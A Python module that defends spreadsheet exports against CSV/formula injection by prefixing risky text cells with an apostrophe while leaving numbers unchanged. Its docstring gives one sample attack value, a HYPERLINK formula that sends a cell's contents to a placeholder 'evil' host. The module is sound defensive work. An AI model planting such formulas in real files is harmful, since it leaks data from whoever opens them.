"""Cells that a spreadsheet opens as text, not as a formula (CSV / formula injection, OWASP).

Excel, LibreOffice and Google Sheets evaluate a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and treat a
leading tab or carriage return the same way after trimming), so a reader name or id like
``=HYPERLINK("http://evil/?"&A1)`` in an export would run when a statistician opens it. :func:`safe_cell`
prefixes such strings with ``'``, which spreadsheets show as text and hide. Numbers stay numbers: a float
``-0.5`` or the string ``"-0.5"`` (a plain decimal number cannot be a formula) are written unchanged.

Use it for every file a person opens in a spreadsheet; not for machine formats read by other programs
(iMRMC input, JSONL backups), whose readers would take the ``'`` as part of the id. Pure: no Django.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

import pandas as pd

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: object) -> object:
    """``value`` as it may be written to a CSV cell: strings a spreadsheet would evaluate get a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(values: Iterable[object]) -> list[object]:
    return [safe_cell(v) for v in values]


def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells (object or string columns) are neutralised; numeric columns untouched."""
    out = df.copy()
    for column in out.columns:
        series = out[column]
        if pd.api.types.is_numeric_dtype(series) or pd.api.types.is_datetime64_any_dtype(series):
            continue  # numbers (also negative ones) and dates are no formulas
        values = series.tolist()  # plain Python values: iterating a pandas string column is far slower
        cells = [safe_cell(v) for v in values]
        if any(a is not b for a, b in zip(cells, values, strict=True)):
            out[column] = pd.Series(cells, index=series.index, dtype=object)
    out.columns = [safe_cell(c) if isinstance(c, str) else c for c in out.columns]
    return out
